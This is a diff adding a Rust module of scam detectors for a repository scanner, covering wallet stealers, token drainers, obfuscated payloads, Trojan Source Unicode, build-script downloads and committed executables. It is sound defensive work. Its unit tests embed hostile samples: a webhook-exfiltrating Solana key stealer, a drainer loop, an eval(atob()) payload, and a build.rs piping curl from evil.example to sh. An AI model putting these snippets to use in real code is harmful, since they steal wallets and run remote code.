@@ -1,0 +1,473 @@
+//! Scam pattern detectors, evaluated per file from the anchor hits of the single content
+//! pass: wallet/keypair reads combined with exfiltration, drainers, obfuscation, hidden
+//! bidirectional Unicode, build-time network use, and committed executables.
+//!
+//! Each detector needs a *combination* of signals (or a very specific one), which is what
+//! separates a drainer from a wallet app that legitimately signs and transfers.
+
+use std::sync::LazyLock;
+
+use regex::bytes::Regex;
+
+use super::anchors::Sig;
+use super::classify::{self, Kind};
+use super::scanner::NSIG;
+use super::secrets::{line_of, window};
+use crate::result::Severity;
+
+/// Check ids of the scam detectors, in report order.
+pub const CHECKS: [(&str, &str); 7] = [
+    ("scam.wallet_exfiltration", "Wallet theft and exfiltration"),
+    ("scam.drainer", "Wallet drainer logic"),
+    ("scam.obfuscation", "Obfuscated code"),
+    ("scam.install_scripts", "Install-time code execution"),
+    ("scam.executables", "Committed executables"),
+    ("scam.hidden_unicode", "Hidden bidirectional Unicode"),
+    ("scam.typosquat", "Typosquatted dependencies"),
+];
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ScamFinding {
+    /// One of [`CHECKS`]' ids.
+    pub check: &'static str,
+    pub severity: Severity,
+    pub title: String,
+    pub path: String,
+    pub line: u32,
+    pub detail: String,
+}
+
+impl ScamFinding {
+    fn new(check: &'static str, severity: Severity, title: &str, path: &str, line: u32, detail: impl Into<String>) -> Self {
+        ScamFinding { check, severity, title: title.into(), path: path.into(), line, detail: detail.into() }
+    }
+}
+
+static RECEIVER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\b(?:receiver|recipient|drain\w*|attacker|collector|destination|dest|to_?addr(?:ess)?|target_?wallet|my_?wallet|owner_?wallet|hacker|sink|payout_?wallet)\w*["']?\s*[:=]\s*(?:new\s+PublicKey\(\s*)?["'](0x[0-9a-fA-F]{40}|[1-9A-HJ-NP-Za-km-z]{32,44})["']"#)
+        .expect("receiver regex")
+});
+static APPROVE_ALL_LITERAL: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"setApprovalForAll\s*\(\s*["']?0x[0-9a-fA-F]{40}"#).expect("approval regex"));
+static RAW_IP_URL: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"https?://(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})").expect("ip regex"));
+static CHARCODE_CHAIN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"fromCharCode\s*\(\s*(?:\d+\s*,\s*){8,}").expect("charcode regex"));
+static OBF_IDENT: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"_0x[0-9a-f]{4,6}").expect("obf regex"));
+
+fn ident_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b == b'.'
+}
+
+fn comment_line(line: &[u8]) -> bool {
+    let t = line.trim_ascii_start();
+    t.starts_with(b"//") || t.starts_with(b"#") || t.starts_with(b"*") || t.starts_with(b"/*") || t.starts_with(b"--")
+}
+
+fn contains(hay: &[u8], needle: &str) -> bool {
+    memchr::memmem::find(hay, needle.as_bytes()).is_some()
+}
+
+fn first(hits: &[(Sig, usize)], s: Sig) -> Option<usize> {
+    hits.iter().find(|(x, _)| *x == s).map(|(_, p)| *p)
+}
+
+/// A raw-IP URL to a public address (a local node at 127.0.0.1:8545 is normal).
+fn raw_public_ip(data: &[u8], hits: &[(Sig, usize)]) -> Option<usize> {
+    for &(_, pos) in hits.iter().filter(|(s, _)| *s == Sig::RawIpUrl) {
+        let lo = pos.saturating_sub(5);
+        let hi = (pos + 24).min(data.len());
+        if let Some(c) = RAW_IP_URL.captures(&data[lo..hi]) {
+            let oct: Vec<u8> = (1..=4).filter_map(|i| std::str::from_utf8(c.get(i)?.as_bytes()).ok()?.parse().ok()).collect();
+            if oct.len() == 4 {
+                let ip = std::net::IpAddr::V4(std::net::Ipv4Addr::new(oct[0], oct[1], oct[2], oct[3]));
+                if !crate::netguard::is_forbidden_ip(ip) {
+                    return Some(pos);
+                }
+            }
+        }
+    }
+    None
+}
+
+/// Wallet-file anchors that really are paths (`/id.json`, `"id.json"`), not `grid.json`.
+fn wallet_read(data: &[u8], hits: &[(Sig, usize)]) -> Option<(usize, bool)> {
+    for &(_, pos) in hits.iter().filter(|(s, _)| *s == Sig::WalletPath) {
+        if data[pos..].starts_with(b"id.json") {
+            let prev = if pos > 0 { data[pos - 1] } else { b'"' };
+            if !matches!(prev, b'/' | b'\\' | b'"' | b'\'' | b'`') {
+                continue;
+            }
+            return Some((pos, false));
+        }
+        // Browser-extension stores, wallet.dat, keystores: only a stealer reads these.
+        let browser_store = !data[pos..].starts_with(b".config/solana");
+        return Some((pos, browser_store));
+    }
+    None
+}
+
+/// Evaluate one text file's signals. Findings in test paths are downgraded to `low`: test
+/// fixtures of security tools legitimately contain these patterns.
+pub fn evaluate_file(path: &str, kind: Kind, data: &[u8], hits: &[(Sig, usize)], counts: &[u32; NSIG], is_test: bool) -> Vec<ScamFinding> {
+    let mut out = Vec::new();
+    if !kind.is_code() {
+        return out;
+    }
+    let c = |s: Sig| counts[s as usize];
+    let ln = |pos: usize| line_of(data, pos);
+
+    // --- Wallet theft: secret material read + sent somewhere an attacker controls.
+    let hard_exfil = hits.iter().find(|(s, p)| *s == Sig::Exfil && !data[*p..].starts_with(b"api.telegram.org")).map(|(_, p)| *p);
+    let telegram = hits.iter().find(|(s, p)| *s == Sig::Exfil && data[*p..].starts_with(b"api.telegram.org")).map(|(_, p)| *p);
+    let raw_ip = if c(Sig::RawIpUrl) > 0 { raw_public_ip(data, hits) } else { None };
+    let wallet = if c(Sig::WalletPath) > 0 { wallet_read(data, hits) } else { None };
+    let strong_exfil = hard_exfil.or(raw_ip);
+    if let Some((wpos, browser_store)) = wallet {
+        let exfil = if browser_store { strong_exfil.or(telegram) } else { strong_exfil };
+        if let Some(epos) = exfil {
+            out.push(ScamFinding::new(
+                "scam.wallet_exfiltration",
+                Severity::Critical,
+                "Reads wallet files and sends data out",
+                path,
+                ln(wpos),
+                format!("{path} reads wallet key storage (line {}) and posts to a webhook, paste site or raw IP (line {}): the pattern of a wallet stealer.", ln(wpos), ln(epos)),
+            ));
+        }
+    } else if let Some(epos) = strong_exfil {
+        let key_material = c(Sig::KeyContext) + c(Sig::SolanaArrayContext) + c(Sig::MnemonicContext) > 0;
+        if key_material {
+            out.push(ScamFinding::new(
+                "scam.wallet_exfiltration",
+                Severity::High,
+                "Handles private keys and sends data to a webhook",
+                path,
+                ln(epos),
+                format!("{path} handles private keys or seed phrases and sends data to a webhook, paste site or raw IP (line {}).", ln(epos)),
+            ));
+        }
+    }
+
+    // --- Drainers.
+    if c(Sig::ApprovalForAll) + c(Sig::MaxApproval) + c(Sig::TokenEnumeration) + c(Sig::TransferCall) > 0 {
+        drainer(path, data, hits, counts, &mut out);
+    }
+
+    // --- Obfuscation.
+    obfuscation(path, data, hits, counts, strong_exfil.is_some() || wallet.is_some(), &mut out);
+
+    // --- Trojan Source: bidi controls have no business in code.
+    if let Some(pos) = first(hits, Sig::Bidi) {
+        out.push(ScamFinding::new(
+            "scam.hidden_unicode",
+            Severity::Critical,
+            "Hidden bidirectional Unicode in code",
+            path,
+            ln(pos),
+            format!("{path} line {} contains invisible text-direction characters that make code read differently from how it runs (Trojan Source).", ln(pos)),
+        ));
+    }
+
+    // --- build.rs / setup.py network use at build or install time.
+    let name = classify::file_name(path);
+    if name == "build.rs" || name == "setup.py" {
+        build_time(path, data, hits, &mut out);
+    }
+
+    if is_test {
+        for f in &mut out {
+            f.severity = Severity::Low;
+            f.title = format!("{} (in test files)", f.title);
+        }
+    }
+    out
+}
+
+fn drainer(path: &str, data: &[u8], hits: &[(Sig, usize)], counts: &[u32; NSIG], out: &mut Vec<ScamFinding>) {
+    let c = |s: Sig| counts[s as usize];
+    let receiver = RECEIVER.find(data).map(|m| m.start());
+    // setApprovalForAll *called* (not defined) with a literal operator address.
+    let approve_literal = hits.iter().filter(|(s, _)| *s == Sig::ApprovalForAll).find_map(|&(_, pos)| {
+        let (_, line) = window(data, pos, 200, 0);
+        if contains(line, "function setApprovalForAll") || contains(line, "event ApprovalForAll") {
+            return None;
+        }
+        APPROVE_ALL_LITERAL.is_match(&data[pos..(pos + 120).min(data.len())]).then_some(pos)
+    });
+    let approve_call = hits.iter().filter(|(s, _)| *s == Sig::ApprovalForAll).find(|&&(_, pos)| {
+        let (_, line) = window(data, pos, 200, 0);
+        !contains(line, "function setApprovalForAll") && !contains(line, "event ApprovalForAll") && !comment_line(line)
+    });
+    let unlimited = hits.iter().filter(|(s, _)| *s == Sig::MaxApproval).find(|&&(_, pos)| {
+        let (_, w) = window(data, pos, 300, 1);
+        contains(w, "approve") && !comment_line(w)
+    });
+    let sweep = c(Sig::TokenEnumeration) > 0 && c(Sig::TransferCall) > 0;
+    let (line, why) = if let Some(p) = approve_literal {
+        (line_of(data, p), "calls setApprovalForAll for a hard-coded operator address, handing over every NFT of the collection")
+    } else if let (Some(r), Some(_)) = (receiver, approve_call) {
+        (line_of(data, r), "requests approval for all assets and routes them to a hard-coded receiver")
+    } else if let (Some(r), true) = (receiver, sweep) {
+        (line_of(data, r), "enumerates the victim's tokens and transfers them to a hard-coded receiver")
+    } else if let (Some(r), Some(_), true) = (receiver, unlimited, c(Sig::TransferCall) > 0) {
+        (line_of(data, r), "asks for unlimited token approval and moves tokens to a hard-coded receiver")
+    } else {
+        if let Some(&(_, p)) = unlimited {
+            out.push(ScamFinding::new(
+                "scam.drainer",
+                Severity::Medium,
+                "Requests unlimited token approval",
+                path,
+                line_of(data, p),
+                format!("{path} line {} approves an unlimited token amount; common in DEX front-ends, but a drained wallet starts here.", line_of(data, p)),
+            ));
+        }
+        return;
+    };
+    out.push(ScamFinding::new(
+        "scam.drainer",
+        Severity::Critical,
+        "Wallet drainer",
+        path,
+        line,
+        format!("{path} {why} (line {line})."),
+    ));
+}
+
+fn obfuscation(path: &str, data: &[u8], hits: &[(Sig, usize)], counts: &[u32; NSIG], exfil_or_wallet: bool, out: &mut Vec<ScamFinding>) {
+    let c = |s: Sig| counts[s as usize];
+    const DECODERS: [&str; 12] = [
+        "atob(", "Buffer.from(", "unescape(", "fromCharCode", "decodeURIComponent(", "\\x", "base64", "b64decode",
+        "decompress", "marshal.loads", "codecs.decode", "rot13",
+    ];
+    // A call, not part of a longer name: `retrieval(`, `isFunction(`, `re.exec(` don't count.
+    let is_call = |pos: usize| pos == 0 || !ident_byte(data[pos - 1]);
+    let eval_decoded = hits.iter().filter(|(s, _)| matches!(s, Sig::EvalLike | Sig::PyExec)).find(|&&(_, pos)| {
+        if !is_call(pos) {
+            return false;
+        }
+        let (_, line) = window(data, pos, 400, 0);
+        !comment_line(line) && DECODERS.iter().any(|d| contains(line, d))
+    });
+    let minified = classify::minified(path);
+    let mut reasons: Vec<(u32, String)> = Vec::new();
+    let mut severity = Severity::Medium;
+    if let Some(&(_, p)) = eval_decoded {
+        severity = Severity::Critical;
+        reasons.push((line_of(data, p), "runs code decoded at run time (eval/exec over decoded strings)".into()));
+    }
+    if let Some(&(_, p)) = hits.iter().find(|(s, _)| *s == Sig::Packer) {
+        severity = severity.max(Severity::High);
+        reasons.push((line_of(data, p), "contains packed code (eval(function(p,a,c,k,e,...)))".into()));
+    }
+    if c(Sig::FromCharCode) >= 20 || hits.iter().any(|&(s, p)| s == Sig::FromCharCode && CHARCODE_CHAIN.is_match(&data[p..(p + 200).min(data.len())])) {
+        severity = severity.max(Severity::High);
+        let p = first(hits, Sig::FromCharCode).unwrap_or(0);
+        reasons.push((line_of(data, p), "builds strings from character-code chains".into()));
+    }
+    if c(Sig::ObfuscatorIdent) >= 20 && OBF_IDENT.find_iter(data).take(20).count() >= 20 {
+        severity = severity.max(Severity::High);
+        let p = first(hits, Sig::ObfuscatorIdent).unwrap_or(0);
+        reasons.push((line_of(data, p), "uses javascript-obfuscator style _0x identifiers".into()));
+    }
+    if !minified {
+        if let Some((line, len)) = long_blob(data) {
+            reasons.push((line, format!("embeds a {len}-character encoded blob")));
+        }
+    }
+    if reasons.is_empty() {
+        return;
+    }
+    if exfil_or_wallet && severity >= Severity::High {
+        severity = Severity::Critical;
+    }
+    let line = reasons[0].0;
+    let text: Vec<String> = reasons.iter().map(|(l, r)| format!("{r} (line {l})")).collect();
+    out.push(ScamFinding::new(
+        "scam.obfuscation",
+        severity,
+        if severity == Severity::Critical { "Obfuscated code that runs hidden payloads" } else { "Obfuscated code" },
+        path,
+        line,
+        format!("{path} {}.", text.join("; ")),
+    ));
+}
+
+/// The longest base64/hex run on any long line, if it is long enough to hide a payload.
+/// Only lines of 1,500+ bytes are examined, so ordinary code costs one `memchr` pass.
+fn long_blob(data: &[u8]) -> Option<(u32, usize)> {
+    const MIN: usize = 1500;
+    let mut start = 0;
+    let mut line_no = 0u32;
+    for nl in memchr::memchr_iter(b'\n', data).chain(std::iter::once(data.len())) {
+        line_no += 1;
+        let line = &data[start..nl];
+        start = nl + 1;
+        if line.len() < MIN {
+            continue;
+        }
+        let mut run = 0usize;
+        let mut best = 0usize;
+        let mut best_end = 0usize;
+        for (i, &b) in line.iter().enumerate() {
+            if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=' {
+                run += 1;
+                if run > best {
+                    best = run;
+                    best_end = i;
+                }
+            } else {
+                run = 0;
+            }
+        }
+        if best >= MIN {
+            let begin = best_end + 1 - best;
+            // Inline images and fonts are data, not hidden code.
+            let before = &line[begin.saturating_sub(40)..begin];
+            if contains(before, "base64,") {
+                continue;
+            }
+            return Some((line_no, best));
+        }
+    }
+    None
+}
+
+fn build_time(path: &str, data: &[u8], hits: &[(Sig, usize)], out: &mut Vec<ScamFinding>) {
+    let is_setup = path.ends_with("setup.py");
+    if is_setup && !contains(data, "cmdclass") {
+        return;
+    }
+    let net = hits.iter().find(|&&(s, pos)| {
+        s == Sig::NetworkUse && {
+            let (_, line) = window(data, pos, 300, 0);
+            !comment_line(line) && !contains(line, "///") && !contains(line, "cargo:rerun") && !contains(line, "url=") && !contains(line, "homepage")
+        }
+    });
+    let Some(&(_, pos)) = net else { return };
+    let spawn = hits.iter().any(|(s, _)| *s == Sig::ProcessSpawn) || contains(data, "exec(");
+    let (sev, title) = if spawn {
+        (Severity::Critical, "Build/install hook downloads and runs code")
+    } else {
+        (Severity::High, "Build/install hook uses the network")
+    };
+    let what = if is_setup { "setup.py overrides the install command and" } else { "build.rs (run on every `cargo build`)" };
+    out.push(ScamFinding::new(
+        "scam.install_scripts",
+        sev,
+        title,
+        path,
+        line_of(data, pos),
+        format!("{what} reaches the network (line {}){}.", line_of(data, pos), if spawn { " and starts other programs" } else { "" }),
+    ));
+}
+
+/// Committed executables, by magic number (extension alone is not trusted either way).
+pub fn executable(path: &str, data: &[u8]) -> Option<ScamFinding> {
+    let fmt = if data.starts_with(b"MZ") {
+        // "MZ" also starts ordinary text; a PE file points at its "PE\0\0" header from 0x3c.
+        let ext = classify::extension(path);
+        let pe_header = data.get(0x3c..0x40).map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]) as usize).and_then(|off| data.get(off..off + 4)) == Some(b"PE\0\0");
+        if pe_header || (matches!(ext.as_str(), "exe" | "dll" | "scr" | "msi" | "sys" | "pif" | "cpl") && memchr::memchr(0, data).is_some()) {
+            "Windows executable"
+        } else {
+            return None;
+        }
+    } else if data.starts_with(b"\x7fELF") {
+        "Linux executable"
+    } else if data.starts_with(&[0xfe, 0xed, 0xfa, 0xce]) || data.starts_with(&[0xfe, 0xed, 0xfa, 0xcf]) || data.starts_with(&[0xce, 0xfa, 0xed, 0xfe]) || data.starts_with(&[0xcf, 0xfa, 0xed, 0xfe]) {
+        "macOS executable"
+    } else {
+        return None;
+    };
+    let in_tests = classify::test_path(path);
+    let severity = if in_tests {
+        Severity::Low
+    } else if fmt == "Windows executable" {
+        Severity::Critical
+    } else {
+        Severity::High
+    };
+    Some(ScamFinding::new(
+        "scam.executables",
+        severity,
+        if in_tests { "Executable in test fixtures" } else { "Ships a prebuilt executable" },
+        path,
+        0,
+        format!("{path} is a {fmt} committed to the repository; its behaviour can't be reviewed from source."),
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::analysis::scanner::Scanner;
+    use crate::tree::RepoFile;
+
+    fn scan(path: &str, text: &str) -> Vec<ScamFinding> {
+        let f = RepoFile { path: path.into(), data: text.as_bytes().to_vec(), size: text.len() as u64, truncated: false };
+        let mut bin = Vec::new();
+        Scanner::global().scan_file(&f, &mut bin).map(|s| s.scam).unwrap_or_default()
+    }
+
+    #[test]
+    fn stealer_vs_wallet_app() {
+        let stealer = "const fs=require('fs');const k=fs.readFileSync(os.homedir()+'/.config/solana/id.json');\nfetch('https://discord.com/api/webhooks/123/abc',{method:'POST',body:k});";
+        let f = scan("src/index.js", stealer);
+        assert!(f.iter().any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical), "{f:?}");
+        let wallet = "const kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(home + '/.config/solana/id.json'))));\nconst conn = new Connection('https://api.mainnet-beta.solana.com');\nawait sendAndConfirmTransaction(conn, tx, [kp]);";
+        assert!(scan("src/wallet.ts", wallet).is_empty());
+    }
+
+    #[test]
+    fn drainer_vs_nft_contract() {
+        let d = "const receiver = '0x1111222233334444555566667777888899990000';\nconst tokens = await getTokenBalances(victim);\nfor (const t of tokens) { await t.contract.transferFrom(victim, receiver, t.balance); }";
+        let f = scan("src/drain.js", d);
+        assert!(f.iter().any(|f| f.check == "scam.drainer" && f.severity == Severity::Critical), "{f:?}");
+        let nft = "function setApprovalForAll(address operator, bool approved) public virtual override {\n  _setApprovalForAll(_msgSender(), operator, approved);\n}\nfunction transferFrom(address from, address to, uint256 id) public { }";
+        assert!(scan("contracts/NFT.sol", nft).is_empty());
+        let approve = "await nft.setApprovalForAll('0xAbCdEf0123456789abcdef0123456789ABCDEF01', true);";
+        assert!(scan("src/x.js", approve).iter().any(|f| f.severity == Severity::Critical));
+    }
+
+    #[test]
+    fn obfuscation_cases() {
+        let evil = "const p = 'ZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlIik=';\neval(atob(p));";
+        assert!(scan("lib/a.js", evil).iter().any(|f| f.severity == Severity::Critical));
+        let benign = "const retrieval = retrieval(query);\nconst ok = isFunction(x);\nconst m = re.exec(s);\nconst img = atob(data);";
+        assert!(scan("lib/b.js", benign).is_empty());
+        let blob = format!("const logo = \"data:image/png;base64,{}\";", "A".repeat(3000));
+        assert!(scan("lib/c.js", &blob).is_empty());
+        let hidden = format!("const payload = \"{}\";", "QUJD".repeat(1000));
+        assert!(scan("lib/d.js", &hidden).iter().any(|f| f.check == "scam.obfuscation"));
+    }
+
+    #[test]
+    fn bidi_only_in_code() {
+        let code = "if (isAdmin) { /* \u{202E} } \u{2066} if (true) */ }";
+        assert!(scan("src/auth.js", code).iter().any(|f| f.check == "scam.hidden_unicode"));
+        assert!(scan("docs/ar.md", "مرحبا \u{202B}text\u{202C}").is_empty());
+    }
+
+    #[test]
+    fn build_scripts() {
+        let bad = "use std::process::Command;\nfn main() {\n  let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://evil.example/x | sh\").status();\n}";
+        assert!(scan("build.rs", bad).iter().any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical));
+        let good = "// See https://doc.rust-lang.org/cargo/reference/build-scripts.html\nfn main() {\n    cc::Build::new().file(\"src/ffi.c\").compile(\"ffi\");\n    println!(\"cargo:rerun-if-changed=src/ffi.c\");\n}";
+        assert!(scan("build.rs", good).is_empty());
+    }
+
+    #[test]
+    fn executables() {
+        let mut pe = b"MZ".to_vec();
+        pe.extend(vec![0u8; 200]);
+        pe[0x3c] = 0x80;
+        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
+        assert_eq!(executable("bot/SolanaSniper.exe", &pe).map(|f| f.severity), Some(Severity::Critical));
+        assert_eq!(executable("tests/fixtures/sample.exe", &pe).map(|f| f.severity), Some(Severity::Low));
+        assert!(executable("README.md", b"MZ is a nice place").is_none());
+        assert!(executable("README.md", "MZ ".repeat(100).as_bytes()).is_none());
+        assert!(executable("assets/logo.png", b"\x89PNG\r\n").is_none());
+    }
+}
